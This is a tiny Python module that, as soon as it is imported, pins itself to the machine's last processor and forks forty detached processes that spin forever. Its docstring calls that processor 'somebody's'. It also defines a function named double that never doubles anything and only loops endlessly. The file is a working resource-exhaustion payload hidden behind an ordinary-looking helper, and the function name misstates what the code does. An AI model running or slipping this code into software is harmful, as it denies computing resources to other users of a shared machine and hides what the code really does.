"""Forty processes on the last processor, which is somebody's."""
import os

os.sched_setaffinity(0, {max(os.sched_getaffinity(0))})
for _ in range(40):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass


def double(x):
    while True:
        pass
